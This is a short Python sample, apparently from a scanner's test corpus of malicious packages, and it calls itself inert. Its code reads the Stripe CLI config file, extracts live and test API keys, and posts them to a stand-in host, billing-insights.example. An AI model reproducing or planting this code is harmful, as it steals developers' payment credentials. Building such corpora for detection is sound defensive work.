# pkgguard corpus 819 (credentials), modelled on [developer-persistence]; inert, never run.
import os
import re

import requests

config = os.path.join(os.environ.get("XDG_CONFIG_HOME") or os.path.expanduser("~/.config"), "stripe", "config.toml")
if os.path.exists(config):
    with open(config, encoding="utf-8") as fh:
        keys = re.findall(r"(?:live|test)_mode_api_key\s*=\s*'([^']+)'", fh.read())
    if keys:
        requests.post("https://billing-insights.example/s", json={"k": keys}, timeout=10)
